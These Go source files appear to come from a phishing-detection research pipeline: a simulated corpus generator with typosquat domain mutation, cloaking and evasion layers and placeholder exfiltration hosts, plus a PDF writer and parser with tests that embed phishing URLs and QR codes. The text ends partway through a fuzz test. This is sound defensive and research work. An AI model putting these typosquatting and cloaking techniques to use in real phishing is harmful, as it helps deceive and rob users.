				_phishyWords[(idx+3)%len(_phishyWords)] + tld
		}
	}
	a := _neutralWords[idx%len(_neutralWords)]
	b := _neutralWords[(idx*7+3)%len(_neutralWords)]
	if rng.Intn(2) == 0 {
		return a + "-" + b + tld
	}
	return a + b + fmt.Sprintf("%d", idx%97) + tld
}

// typoVariant derives the variant-th edit-distance-1 mutation of a brand
// token: letter drops, doublings, and adjacent swaps, cycling so the
// deceptive-name space is large enough to stay collision-free.
func typoVariant(tok string, variant int) string {
	if len(tok) < 4 {
		return tok + "x"
	}
	n := len(tok)
	switch variant % 3 {
	case 0: // drop a letter
		pos := 1 + variant%(n-1)
		return tok[:pos] + tok[pos+1:]
	case 1: // double a letter
		pos := variant % n
		return tok[:pos+1] + tok[pos:]
	default: // swap adjacent letters
		pos := variant % (n - 1)
		if tok[pos] == tok[pos+1] {
			pos = (pos + 1) % (n - 1)
		}
		return tok[:pos] + string(tok[pos+1]) + string(tok[pos]) + tok[pos+2:]
	}
}

// assignTimelines draws registration/cert/delivery times per domain.
func (c *Corpus) assignTimelines(rng *rand.Rand) {
	// Distribute domains over months proportionally to message volume.
	active := 0
	for i := range c.Domains {
		active += c.Domains[i].MessageCount
	}
	month := 0
	budget := monthActiveBudget(c.Monthly, active, 0)
	certOutliers := 0
	wantCertOutliers := scaleQuota(CountCertOutliers-1, c.cfg.Scale) // 4 compromised
	freshCertOutlier := false
	for i := range c.Domains {
		d := &c.Domains[i]
		for budget < d.MessageCount && month < 9 {
			month++
			budget = monthActiveBudget(c.Monthly, active, month)
		}
		budget -= d.MessageCount
		base := monthStart(month).Add(time.Duration(rng.Intn(25*24)) * time.Hour)
		d.AvgDelivery = base

		if d.Provenance == whois.ProvenanceCompromised {
			// Legitimate domain registered long ago; cert usually recent
			// (re-issued by the hosting stack). The first few carry old
			// certificates — the paper's 4-of-5 cert outliers.
			d.Registered = base.Add(-time.Duration(300+rng.Intn(900)) * 24 * time.Hour)
			if certOutliers < wantCertOutliers {
				certOutliers++
				d.CertIssued = base.Add(-time.Duration(91+rng.Intn(200)) * 24 * time.Hour)
			} else {
				d.CertIssued = base.Add(-lognormalHours(rng, TimedeltaBMedianHours, TimedeltaBSigma))
			}
		} else {
			// Registration and certificate leads are drawn jointly with a
			// shared campaign-preparation factor, so registration precedes
			// certificate issuance almost surely while both marginals keep
			// their calibrated medians and sigmas (1.54 for A; the B draw
			// splits its 1.05 sigma into sqrt(0.99^2 + 0.35^2)).
			u := rng.NormFloat64()
			v := rng.NormFloat64()
			da := hoursDur(TimedeltaAMedianHours * math.Exp(TimedeltaASigma*u))
			db := hoursDur(TimedeltaBMedianHours * math.Exp(0.99*u+0.35*v))
			if db >= da {
				da = db * 13 / 10
			}
			const ninetyDays = 90 * 24 * time.Hour
			switch {
			case db >= ninetyDays && !freshCertOutlier:
				// One fresh domain keeps its >90-day certificate — the
				// fifth cert outlier alongside the four compromised ones.
				freshCertOutlier = true
			case db >= ninetyDays:
				db = ninetyDays - time.Duration(1+rng.Intn(200))*time.Hour
				if db >= da {
					da = db * 13 / 10
				}
			}
			if db < time.Hour {
				db = time.Hour
			}
			d.Registered = base.Add(-da)
			d.CertIssued = base.Add(-db)
		}
	}
}

func monthActiveBudget(monthly [10]int, totalActive, month int) int {
	totalAll := 0
	for _, m := range monthly {
		totalAll += m
	}
	if totalAll == 0 {
		return 0
	}
	return monthly[month] * totalActive / totalAll
}

// assignCloaks walks the domains consuming message-count quotas for each
// evasion layer.
func (c *Corpus) assignCloaks() {
	scale := c.cfg.Scale
	activeMsgs := 0
	for i := range c.Domains {
		activeMsgs += c.Domains[i].MessageCount
	}
	// Challenge-service shares are fractions of the credential-harvesting
	// subset (943/1267 and 314/1267); every generated site harvests
	// credentials, so the share applies to the whole active set.
	q := map[string]int{
		"turnstile": activeMsgs * CountTurnstile / CountCredentialSubset,
		"recaptcha": activeMsgs * CountReCaptcha / CountCredentialSubset,
		"console":   scaleQuota(CountConsoleHijack, scale),
		"debugger":  scaleQuota(CountDebuggerTimer, scale),
		"devtools":  scaleQuota(CountDevtoolsBlock, scale),
		"huerotate": scaleQuota(CountHueRotateMsgs, scale),
		"fpgate":    scaleQuota(CountFingerprintGate, scale),
		"otp":       scaleQuota(CountOTPGate, scale),
		"math":      scaleQuota(CountMathChallenge, scale),
		"fplib":     scaleQuota(CountFPLibrary, scale),
		"httpbin":   scaleQuota(CountExfilHTTPBin, scale),
		"ipapi":     scaleQuota(CountExfilIPAPI, scale),
		"victimA":   scaleQuota(CountVictimCheckAMsgs, scale),
		"victimB":   scaleQuota(CountVictimCheckBMsgs, scale),
		"hotload":   scaleQuota(CountHotLoadSpear, scale),
		"tokens":    scaleQuota(900, scale), // tokenized spear campaigns
	}
	// Proportional controller: each flag tracks how many of the messages
	// processed so far are flagged, and flags a domain whenever its share
	// is behind target — robust to heavy-tailed domain sizes.
	active := 0
	for i := range c.Domains {
		active += c.Domains[i].MessageCount
	}
	spearMsgs := 0
	for i := range c.Domains {
		if c.Domains[i].Spear {
			spearMsgs += c.Domains[i].MessageCount
		}
	}
	// hotload and tokens only apply to spear domains; their controllers
	// track spear messages, not the whole active set.
	spearKeys := map[string]bool{"hotload": true, "tokens": true}
	flagged := map[string]int{}
	processed := 0
	processedSpear := 0
	take := func(key string, n int) bool {
		target := q[key]
		denom := active
		base := processed
		if spearKeys[key] {
			denom = spearMsgs
			base = processedSpear
		}
		if target <= 0 || denom == 0 {
			return false
		}
		expected := float64(target) * float64(base) / float64(denom)
		devFlag := float64(flagged[key]+n) - expected
		devSkip := expected - float64(flagged[key])
		if devFlag < 0 {
			devFlag = -devFlag
		}
		if devSkip < 0 {
			devSkip = -devSkip
		}
		if devFlag <= devSkip {
			flagged[key] += n
			return true
		}
		return false
	}
	for i := range c.Domains {
		d := &c.Domains[i]
		n := d.MessageCount
		processed += n
		if d.Spear {
			processedSpear += n
		}
		// Challenge services ride on credential-harvesting campaigns.
		if take("turnstile", n) {
			d.Cloaks.Turnstile = true
			if take("recaptcha", n) {
				d.Cloaks.ReCaptcha = true
			}
		}
		// Exclusive client-side gate slot.
		switch {
		case d.Spear && take("victimA", n):
			d.Cloaks.VictimA = true
		case d.Spear && take("victimB", n):
			d.Cloaks.VictimB = true
		case take("fpgate", n):
			d.Cloaks.FPGate = true
		case take("otp", n):
			d.Cloaks.OTP = true
		case take("math", n):
			d.Cloaks.Math = true
		}
		// Independent layers.
		if take("console", n) {
			d.Cloaks.Console = true
		}
		if take("debugger", n) {
			d.Cloaks.Debugger = true
		}
		if take("devtools", n) {
			d.Cloaks.Devtools = true
		}
		if take("huerotate", n) {
			d.Cloaks.HueRotate = true
		}
		if take("httpbin", n) {
			d.Cloaks.ExfilHB = true
			if take("ipapi", n) {
				d.Cloaks.ExfilIPAPI = true
			}
		}
		if n == 1 && d.AvgDelivery.Month() == time.July && take("fplib", n) {
			d.Cloaks.FPLibrary = true
		}
		if d.Spear {
			if take("hotload", n) {
				d.Cloaks.HotLoad = true
			}
			if take("tokens", n) {
				d.Cloaks.Tokens = true
			}
		}
	}
}

// deployDomains registers WHOIS records, issues certificates, sets DNS
// volumes, and deploys the phishing sites.
func (c *Corpus) deployDomains(rng *rand.Rand) {
	brandByName := map[string]phishkit.Brand{}
	for _, b := range phishkit.StudyBrands {
		brandByName[b.Name] = b
	}
	for _, b := range phishkit.SaaSBrands {
		brandByName[b.Name] = b
	}
	sawThirdVolume := false
	for i := range c.Domains {
		d := &c.Domains[i]
		registrar := "NameCheap-Intl"
		if strings.HasSuffix(d.Host, ".ru") {
			registrar = RuRegistrarsRotation[i%len(RuRegistrarsRotation)]
		}
		c.Registry.Register(whois.Record{
			Domain:     registrableOf(d.Host),
			Registrar:  registrar,
			Registered: d.Registered,
			Provenance: d.Provenance,
		})
		c.Net.IssueCert(d.Host, "LetsEncrypt", d.CertIssued)

		// Passive-DNS victim traffic. High-volume outliers spread over the
		// full window; targeted campaigns burst over ~2 days, which is what
		// makes their max-daily counts a meaningful fraction of the total.
		window := 2 * 24 * time.Hour
		switch {
		case i == 0: // the 58-message outlier gets the top volume
			d.DNSTotal30d = DNSTopVolume
			window = 30 * 24 * time.Hour
		case i == 1:
			d.DNSTotal30d = DNSSecondVolume
			window = 30 * 24 * time.Hour
		case d.MessageCount == 1 && !sawThirdVolume:
			d.DNSTotal30d = DNSThirdVolume
			sawThirdVolume = true
			window = 30 * 24 * time.Hour
		case d.MessageCount == 1:
			d.DNSTotal30d = DNSSingleMedianTotal + rng.Intn(21) - 10
		default:
			d.DNSTotal30d = DNSMultiMedianTotal + rng.Intn(41) - 20
		}
		if d.DNSTotal30d < 5 {
			d.DNSTotal30d = 5
		}
		c.Net.RecordBackgroundQueries(d.Host, d.DNSTotal30d, window, d.AvgDelivery.Add(12*time.Hour))

		cfg := phishkit.SiteConfig{
			Host:               d.Host,
			Brand:              brandByName[d.Brand],
			HotLoadBrandAssets: d.Cloaks.HotLoad,
			ConsoleHijack:      d.Cloaks.Console,
			DebuggerTimer:      d.Cloaks.Debugger,
		}
		if d.Cloaks.Turnstile {
			cfg.Turnstile = c.Turnstile
		}
		if d.Cloaks.ReCaptcha {
			cfg.ReCaptcha = c.ReCaptcha
		}
		if d.Cloaks.HueRotate {
			cfg.HueRotateDeg = 4
		}
		if d.Cloaks.FPGate {
			cfg.FingerprintGate = true
		}
		if d.Cloaks.OTP {
			d.OTPCode = fmt.Sprintf("%06d", 100000+i*7919%900000)
			cfg.OTPCode = d.OTPCode
		}
		if d.Cloaks.FPLibrary {
			cfg.FPLibraryHost = "botd.example"
		}
		if d.Cloaks.Math {
			cfg.MathChallenge = true
		}
		if d.Cloaks.VictimA || d.Cloaks.VictimB {
			cfg.VictimCheckC2 = d.Host
		}
		if d.Cloaks.ExfilHB {
			cfg.ExfilHTTPBin = "httpbin.example"
			if d.Cloaks.ExfilIPAPI {
				cfg.ExfilIPAPI = "ipapi.example"
			}
		}
		if d.Cloaks.Tokens {
			tokens := make([]string, d.MessageCount)
			for t := range tokens {
				tokens[t] = fmt.Sprintf("u%03dx%04d", i, t)
			}
			cfg.Tokens = tokens
		}
		d.Site = phishkit.Deploy(c.Net, cfg)
		if ip, err := c.Net.Resolve(d.Host, "provisioning"); err == nil {
			c.Net.SetBanner(ip, _banners[i%len(_banners)])
		}
	}
}

func registrableOf(host string) string {
	parts := strings.Split(host, ".")
	if len(parts) <= 2 {
		return host
	}
	return strings.Join(parts[len(parts)-2:], ".")
}
