// Package pdfx implements a minimal PDF 1.4 writer and parser pair. It
// covers exactly the features the CrawlerBox parsing phase needs from PDF
// attachments: text content (Tj operators inside, optionally Flate-
// compressed, content streams), URI link annotations, and embedded raster
// images (CBI-encoded XObjects). The parser is tolerant: it scans for
// indirect objects directly rather than trusting the xref table, the same
// strategy hardened email scanners use against malformed documents.
package pdfx

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"

	"crawlerbox/internal/imaging"
)

// PlacedImage is a raster placed at a position on a page. Coordinates are
// in PDF points from the top-left of the page (the writer converts to PDF's
// bottom-left origin internally).
type PlacedImage struct {
	X, Y int
	Img  *imaging.Image
}

// Page is one page of a document.
type Page struct {
	// TextLines are drawn top-down starting near the top margin.
	TextLines []string
	// LinkURIs become /URI link annotations.
	LinkURIs []string
	// Images are rasters embedded as image XObjects.
	Images []PlacedImage
}

// Document is a list of pages.
type Document struct {
	Pages []Page
}

// Page geometry (US Letter in points).
const (
	pageWidth  = 612
	pageHeight = 792
	marginX    = 72
	marginTopY = 720
	leading    = 16
)

// Build serializes the document to PDF bytes. Content streams are
// Flate-compressed when compress is true, exercising the parser's
// decompression path.
func Build(doc *Document, compress bool) []byte {
	var objects [][]byte // index = object number - 1
	addObj := func(body string, stream []byte) int {
		num := len(objects) + 1
		var b bytes.Buffer
		fmt.Fprintf(&b, "%d 0 obj\n", num)
		b.WriteString(body)
		if stream != nil {
			b.WriteString("\nstream\n")
			b.Write(stream)
			b.WriteString("\nendstream")
		}
		b.WriteString("\nendobj\n")
		objects = append(objects, b.Bytes())
		return num
	}

	fontNum := addObj(`<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`, nil)

	var pageNums []int
	// Reserve object numbers: we must know the Pages object number up
	// front; build pages first and patch the catalog afterwards by
	// emitting pages, then the pages tree, then the catalog.
	for _, page := range doc.Pages {
		// Image XObjects for this page.
		var xobjects []placedRef
		for i, pi := range page.Images {
			data := imaging.EncodeCBI(pi.Img)
			body := fmt.Sprintf(
				"<< /Type /XObject /Subtype /Image /Width %d /Height %d /Filter /CBIDecode /Length %d >>",
				pi.Img.W, pi.Img.H, len(data))
			num := addObj(body, data)
			xobjects = append(xobjects, placedRef{name: fmt.Sprintf("Im%d", i), num: num, img: pi})
		}

		content := buildContentStream(page, xobjects)
		var stream []byte
		filter := ""
		if compress {
			var zbuf bytes.Buffer
			zw := zlib.NewWriter(&zbuf)
			_, _ = zw.Write(content)
			_ = zw.Close()
			stream = zbuf.Bytes()
			filter = " /Filter /FlateDecode"
		} else {
			stream = content
		}
		contentNum := addObj(fmt.Sprintf("<< /Length %d%s >>", len(stream), filter), stream)

		var annotRefs []string
		for _, uri := range page.LinkURIs {
			annotNum := addObj(fmt.Sprintf(
				"<< /Type /Annot /Subtype /Link /Rect [%d %d %d %d] /A << /S /URI /URI (%s) >> >>",
				marginX, 100, pageWidth-marginX, 120, escapePDFString(uri)), nil)
			annotRefs = append(annotRefs, fmt.Sprintf("%d 0 R", annotNum))
		}

		var xobjDict strings.Builder
		if len(xobjects) > 0 {
			xobjDict.WriteString(" /XObject <<")
			for _, x := range xobjects {
				fmt.Fprintf(&xobjDict, " /%s %d 0 R", x.name, x.num)
			}
			xobjDict.WriteString(" >>")
		}
		annots := ""
		if len(annotRefs) > 0 {
			annots = fmt.Sprintf(" /Annots [%s]", strings.Join(annotRefs, " "))
		}
		pageBody := fmt.Sprintf(
			"<< /Type /Page /Parent PAGES_REF /MediaBox [0 0 %d %d] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >>%s >>%s >>",
			pageWidth, pageHeight, contentNum, fontNum, xobjDict.String(), annots)
		pageNums = append(pageNums, addObj(pageBody, nil))
	}

	kids := make([]string, len(pageNums))
	for i, n := range pageNums {
		kids[i] = fmt.Sprintf("%d 0 R", n)
	}
	pagesNum := addObj(fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>",
		strings.Join(kids, " "), len(pageNums)), nil)
	catalogNum := addObj(fmt.Sprintf("<< /Type /Catalog /Pages %d 0 R >>", pagesNum), nil)

	// Patch the parent reference now that the pages object number is known.
	parentRef := fmt.Sprintf("%d 0 R", pagesNum)
	for i := range objects {
		objects[i] = bytes.ReplaceAll(objects[i], []byte("PAGES_REF"), []byte(parentRef))
	}

	// Assemble with a classic xref table.
	var out bytes.Buffer
	out.WriteString("%PDF-1.4\n%\xE2\xE3\xCF\xD3\n")
	offsets := make([]int, len(objects))
	for i, obj := range objects {
		offsets[i] = out.Len()
		out.Write(obj)
	}
	xrefPos := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n", len(objects)+1)
	out.WriteString("0000000000 65535 f \n")
	for _, off := range offsets {
		fmt.Fprintf(&out, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n",
		len(objects)+1, catalogNum, xrefPos)
	return out.Bytes()
}

// placedRef ties an embedded image XObject to its resource name.
type placedRef struct {
	name string
	num  int
	img  PlacedImage
}

func buildContentStream(page Page, xobjects []placedRef) []byte {
	var b bytes.Buffer
	if len(page.TextLines) > 0 {
		fmt.Fprintf(&b, "BT\n/F1 12 Tf\n%d %d Td\n%d TL\n", marginX, marginTopY, leading)
		for i, line := range page.TextLines {
			if i > 0 {
				b.WriteString("T*\n")
			}
			fmt.Fprintf(&b, "(%s) Tj\n", escapePDFString(line))
		}
		b.WriteString("ET\n")
	}
	for _, x := range xobjects {
		// Convert top-left placement to PDF bottom-left coordinates.
		pdfY := pageHeight - x.img.Y - x.img.Img.H
		fmt.Fprintf(&b, "q\n%d 0 0 %d %d %d cm\n/%s Do\nQ\n",
			x.img.Img.W, x.img.Img.H, x.img.X, pdfY, x.name)
	}
	return b.Bytes()
}

func escapePDFString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`, "\n", `\n`, "\r", `\r`)
	return r.Replace(s)
}
