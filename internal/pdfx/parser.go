package pdfx

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"

	"crawlerbox/internal/imaging"
)

// Errors returned by the parser.
var (
	// ErrNotPDF indicates the input lacks a %PDF header.
	ErrNotPDF = errors.New("pdfx: missing %PDF header")
	// ErrNoObjects indicates no indirect objects could be recovered.
	ErrNoObjects = errors.New("pdfx: no objects found")
)

// Parsed is the recovered content of a PDF document.
type Parsed struct {
	// TextLines is all text drawn with Tj operators, in object order.
	TextLines []string
	// LinkURIs is every /URI action target.
	LinkURIs []string
	// Images is every recovered embedded raster.
	Images []*imaging.Image
}

// rawObject is one indirect object scanned out of the file.
type rawObject struct {
	num    int
	dict   string
	stream []byte
}

var (
	_objStartRe = regexp.MustCompile(`(\d+)\s+(\d+)\s+obj\b`)
	_uriRe      = regexp.MustCompile(`/URI\s*\(`)
)

// Parse scans a PDF byte stream and recovers text, link URIs, and embedded
// images. It does not trust the xref table: objects are located by scanning
// for "N G obj" markers, which also recovers content from documents with
// corrupt or truncated trailers.
func Parse(data []byte) (*Parsed, error) {
	if !bytes.HasPrefix(data, []byte("%PDF")) {
		return nil, ErrNotPDF
	}
	objects := scanObjects(data)
	if len(objects) == 0 {
		return nil, ErrNoObjects
	}
	out := &Parsed{}
	for _, obj := range objects {
		// URI annotations live in object dictionaries.
		out.LinkURIs = append(out.LinkURIs, extractURIs(obj.dict)...)
		if obj.stream == nil {
			continue
		}
		switch {
		case strings.Contains(obj.dict, "/CBIDecode") || imaging.IsCBI(obj.stream):
			if img, err := imaging.DecodeCBI(obj.stream); err == nil {
				out.Images = append(out.Images, img)
			}
		default:
			content := obj.stream
			if strings.Contains(obj.dict, "/FlateDecode") {
				decompressed, err := inflate(content)
				if err != nil {
					// Corrupt stream: skip it rather than failing the
					// document, mirroring resilient scanner behavior.
					continue
				}
				content = decompressed
			}
			out.TextLines = append(out.TextLines, extractTextOps(string(content))...)
		}
	}
	return out, nil
}

// scanObjects locates every "N G obj ... endobj" region.
func scanObjects(data []byte) []rawObject {
	var out []rawObject
	locs := _objStartRe.FindAllSubmatchIndex(data, -1)
	for _, loc := range locs {
		numStr := string(data[loc[2]:loc[3]])
		num, err := strconv.Atoi(numStr)
		if err != nil {
			continue
		}
		bodyStart := loc[1]
		end := bytes.Index(data[bodyStart:], []byte("endobj"))
		if end < 0 {
			end = len(data) - bodyStart
		}
		body := data[bodyStart : bodyStart+end]
		obj := rawObject{num: num}
		if sIdx := bytes.Index(body, []byte("stream")); sIdx >= 0 {
			obj.dict = string(body[:sIdx])
			streamStart := sIdx + len("stream")
			// Skip the EOL after the "stream" keyword.
			for streamStart < len(body) && (body[streamStart] == '\r' || body[streamStart] == '\n') {
				streamStart++
			}
			streamEnd := bytes.LastIndex(body, []byte("endstream"))
			if streamEnd < 0 || streamEnd < streamStart {
				streamEnd = len(body)
			}
			stream := body[streamStart:streamEnd]
			// Trim the EOL before "endstream".
			stream = bytes.TrimRight(stream, "\r\n")
			obj.stream = stream
		} else {
			obj.dict = string(body)
		}
		out = append(out, obj)
	}
	return out
}

// extractURIs pulls every /URI (...) action target out of a dictionary.
func extractURIs(dict string) []string {
	var out []string
	for _, loc := range _uriRe.FindAllStringIndex(dict, -1) {
		s, ok := readPDFString(dict[loc[1]-1:])
		if ok {
			out = append(out, s)
		}
	}
	return out
}

// readPDFString reads a parenthesized PDF string starting at src[0] == '('.
func readPDFString(src string) (string, bool) {
	if src == "" || src[0] != '(' {
		return "", false
	}
	var sb strings.Builder
	depth := 0
	for i := 0; i < len(src); i++ {
		c := src[i]
		switch c {
		case '\\':
			if i+1 >= len(src) {
				return "", false
			}
			i++
			switch src[i] {
			case 'n':
				sb.WriteByte('\n')
			case 'r':
				sb.WriteByte('\r')
			case 't':
				sb.WriteByte('\t')
			default:
				sb.WriteByte(src[i])
			}
		case '(':
			depth++
			if depth > 1 {
				sb.WriteByte(c)
			}
		case ')':
			depth--
			if depth == 0 {
				return sb.String(), true
			}
			sb.WriteByte(c)
		default:
			sb.WriteByte(c)
		}
	}
	return "", false
}

// extractTextOps recovers the operands of Tj and TJ operators.
func extractTextOps(content string) []string {
	var out []string
	for i := 0; i < len(content); i++ {
		if content[i] != '(' {
			continue
		}
		s, ok := readPDFString(content[i:])
		if !ok {
			continue
		}
		// Advance past the string literal.
		consumed := pdfStringSpan(content[i:])
		rest := strings.TrimLeft(content[i+consumed:], " \t\r\n")
		if strings.HasPrefix(rest, "Tj") || strings.HasPrefix(rest, "TJ") ||
			strings.HasPrefix(rest, "'") || strings.HasPrefix(rest, "\"") ||
			strings.HasPrefix(rest, "]") { // inside a TJ array
			out = append(out, s)
		}
		i += consumed - 1
	}
	return out
}

// pdfStringSpan returns the byte length of the parenthesized string literal
// starting at src[0] == '('.
func pdfStringSpan(src string) int {
	depth := 0
	for i := 0; i < len(src); i++ {
		switch src[i] {
		case '\\':
			i++
		case '(':
			depth++
		case ')':
			depth--
			if depth == 0 {
				return i + 1
			}
		}
	}
	return len(src)
}

func inflate(data []byte) ([]byte, error) {
	r, err := zlib.NewReader(bytes.NewReader(data))
	if err != nil {
		return nil, fmt.Errorf("pdfx: opening flate stream: %w", err)
	}
	defer func() { _ = r.Close() }()
	out, err := io.ReadAll(r)
	if err != nil {
		return nil, fmt.Errorf("pdfx: inflating stream: %w", err)
	}
	return out, nil
}

// RenderPage rasterizes a logical page the way the original pipeline
// screenshots PDF pages before OCR/QR scanning: text lines are drawn with
// the bitmap font and placed images are blitted at their positions. The
// raster is scaled down 2:1 from page points to keep images compact.
func RenderPage(page Page) *imaging.Image {
	const scale = 2
	img := imaging.MustNew(pageWidth/scale, pageHeight/scale, imaging.White)
	y := (pageHeight - marginTopY) / scale
	for _, line := range page.TextLines {
		imaging.DrawText(img, marginX/scale, y, line, imaging.Black)
		y += leading / scale * 2
	}
	for _, pi := range page.Images {
		for sy := 0; sy < pi.Img.H; sy++ {
			for sx := 0; sx < pi.Img.W; sx++ {
				img.Set(pi.X/scale+sx, pi.Y/scale+sy, pi.Img.At(sx, sy))
			}
		}
	}
	return img
}
