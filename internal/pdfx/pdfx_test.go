package pdfx

import (
	"bytes"
	"strings"
	"testing"

	"crawlerbox/internal/imaging"
	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/urlx"
)

func buildSimpleDoc() *Document {
	return &Document{Pages: []Page{{
		TextLines: []string{
			"Dear customer,",
			"Your invoice is overdue. Visit https://pay-invoice.example/now",
		},
		LinkURIs: []string{"https://evil-site.com/dhfYWfH"},
	}}}
}

func TestBuildParseRoundTripUncompressed(t *testing.T) {
	data := Build(buildSimpleDoc(), false)
	if !bytes.HasPrefix(data, []byte("%PDF-1.4")) {
		t.Fatal("missing PDF header")
	}
	parsed, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.LinkURIs) != 1 || parsed.LinkURIs[0] != "https://evil-site.com/dhfYWfH" {
		t.Errorf("LinkURIs = %v", parsed.LinkURIs)
	}
	joined := strings.Join(parsed.TextLines, "\n")
	if !strings.Contains(joined, "https://pay-invoice.example/now") {
		t.Errorf("text lines missing URL: %q", joined)
	}
}

func TestBuildParseRoundTripCompressed(t *testing.T) {
	data := Build(buildSimpleDoc(), true)
	parsed, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(parsed.TextLines, "\n")
	if !strings.Contains(joined, "https://pay-invoice.example/now") {
		t.Errorf("compressed text lines missing URL: %q", joined)
	}
	if len(parsed.LinkURIs) != 1 {
		t.Errorf("LinkURIs = %v", parsed.LinkURIs)
	}
}

func TestEscapedParensRoundTrip(t *testing.T) {
	doc := &Document{Pages: []Page{{
		TextLines: []string{`weird (paren) line \ with backslash`},
		LinkURIs:  []string{"https://x.example/a(b)c"},
	}}}
	parsed, err := Parse(Build(doc, false))
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.TextLines) == 0 || !strings.Contains(parsed.TextLines[0], "(paren)") {
		t.Errorf("TextLines = %q", parsed.TextLines)
	}
	if len(parsed.LinkURIs) != 1 || parsed.LinkURIs[0] != "https://x.example/a(b)c" {
		t.Errorf("LinkURIs = %v", parsed.LinkURIs)
	}
}

func TestMultiPage(t *testing.T) {
	doc := &Document{Pages: []Page{
		{TextLines: []string{"page one"}, LinkURIs: []string{"https://a.example/1"}},
		{TextLines: []string{"page two"}, LinkURIs: []string{"https://b.example/2"}},
	}}
	parsed, err := Parse(Build(doc, true))
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.LinkURIs) != 2 {
		t.Errorf("LinkURIs = %v", parsed.LinkURIs)
	}
	joined := strings.Join(parsed.TextLines, " ")
	if !strings.Contains(joined, "page one") || !strings.Contains(joined, "page two") {
		t.Errorf("TextLines = %q", parsed.TextLines)
	}
}

func TestEmbeddedImageRoundTrip(t *testing.T) {
	img := imaging.MustNew(40, 30, imaging.RGB{R: 10, G: 200, B: 30})
	img.FillRect(5, 5, 15, 15, imaging.Black)
	doc := &Document{Pages: []Page{{
		TextLines: []string{"scan the code below"},
		Images:    []PlacedImage{{X: 100, Y: 200, Img: img}},
	}}}
	parsed, err := Parse(Build(doc, false))
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.Images) != 1 {
		t.Fatalf("Images = %d", len(parsed.Images))
	}
	if !parsed.Images[0].Equal(img) {
		t.Error("embedded image not recovered bit-exact")
	}
}

func TestQRInPDFEndToEnd(t *testing.T) {
	// The full attack shape: a QR code with a phishing URL embedded in a
	// PDF attachment. The pipeline must recover the URL from the image.
	payload := "https://evil-site.com/dhfYWfH"
	m, err := qrcode.Encode(payload, qrcode.ECMedium)
	if err != nil {
		t.Fatal(err)
	}
	qrImg, err := qrcode.Render(m, 4, 4)
	if err != nil {
		t.Fatal(err)
	}
	doc := &Document{Pages: []Page{{
		TextLines: []string{"Please scan to verify your account"},
		Images:    []PlacedImage{{X: 200, Y: 300, Img: qrImg}},
	}}}
	parsed, err := Parse(Build(doc, true))
	if err != nil {
		t.Fatal(err)
	}
	if len(parsed.Images) != 1 {
		t.Fatalf("Images = %d", len(parsed.Images))
	}
	dec, err := qrcode.DecodeImage(parsed.Images[0])
	if err != nil {
		t.Fatalf("QR decode from parsed PDF image: %v", err)
	}
	if dec.Payload != payload {
		t.Errorf("payload = %q, want %q", dec.Payload, payload)
	}
}

func TestRenderPageOCRPath(t *testing.T) {
	// The screenshot path: render the page, then OCR the raster to find
	// the URL, the way CrawlerBox screenshots PDF pages.
	page := Page{TextLines: []string{"VISIT HTTPS://PHISH.RU/A1B2"}}
	img := RenderPage(page)
	lines := imaging.OCR(img, 0.9)
	var found bool
	for _, line := range lines {
		for _, e := range urlx.ExtractLenient(strings.ToLower(line)) {
			if strings.Contains(e.URL, "phish.ru") {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("URL not recovered from rendered page; OCR = %q", lines)
	}
}

func TestParseRejectsNonPDF(t *testing.T) {
	if _, err := Parse([]byte("not a pdf")); err == nil {
		t.Error("non-PDF input should fail")
	}
	if _, err := Parse([]byte("%PDF-1.4\njust a header")); err == nil {
		t.Error("PDF with no objects should fail")
	}
}

func TestParseTruncatedPDF(t *testing.T) {
	data := Build(buildSimpleDoc(), false)
	// Cut the trailer and xref off; object scanning must still recover.
	cut := bytes.Index(data, []byte("xref"))
	if cut < 0 {
		t.Fatal("no xref in built PDF")
	}
	parsed, err := Parse(data[:cut])
	if err != nil {
		t.Fatalf("truncated parse: %v", err)
	}
	if len(parsed.LinkURIs) != 1 {
		t.Errorf("LinkURIs from truncated PDF = %v", parsed.LinkURIs)
	}
}

func TestParseCorruptFlateStreamSkipped(t *testing.T) {
	data := Build(buildSimpleDoc(), true)
	// Corrupt the middle of the compressed stream.
	idx := bytes.Index(data, []byte("stream\n"))
	if idx < 0 {
		t.Fatal("no stream found")
	}
	corrupted := append([]byte{}, data...)
	for i := idx + 20; i < idx+30 && i < len(corrupted); i++ {
		corrupted[i] ^= 0xFF
	}
	parsed, err := Parse(corrupted)
	if err != nil {
		t.Fatalf("corrupt stream must degrade, not fail: %v", err)
	}
	// URIs live outside the stream and must survive.
	if len(parsed.LinkURIs) != 1 {
		t.Errorf("LinkURIs = %v", parsed.LinkURIs)
	}
}

func TestReadPDFString(t *testing.T) {
	tests := []struct {
		src    string
		want   string
		wantOK bool
	}{
		{"(hello)", "hello", true},
		{`(a\(b\)c)`, "a(b)c", true},
		{"(nested (parens) ok)", "nested (parens) ok", true},
		{`(line\nbreak)`, "line\nbreak", true},
		{"(unterminated", "", false},
		{"nostring", "", false},
	}
	for _, tt := range tests {
		got, ok := readPDFString(tt.src)
		if got != tt.want || ok != tt.wantOK {
			t.Errorf("readPDFString(%q) = (%q, %v), want (%q, %v)", tt.src, got, ok, tt.want, tt.wantOK)
		}
	}
}
