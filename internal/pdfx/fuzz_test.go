package pdfx

import (
	"bytes"
	"testing"
)

// FuzzParsePDF drives the tolerant parser with writer output (plain and
// Flate-compressed), truncated and corrupted variants, and non-PDF noise.
// The contract under fuzzing: never panic, and never return a nil *Parsed
// without an error. The seed corpus runs as ordinary test cases under
// `go test`; `go test -fuzz=FuzzParsePDF` explores beyond it.
func FuzzParsePDF(f *testing.F) {
	doc := &Document{Pages: []Page{{
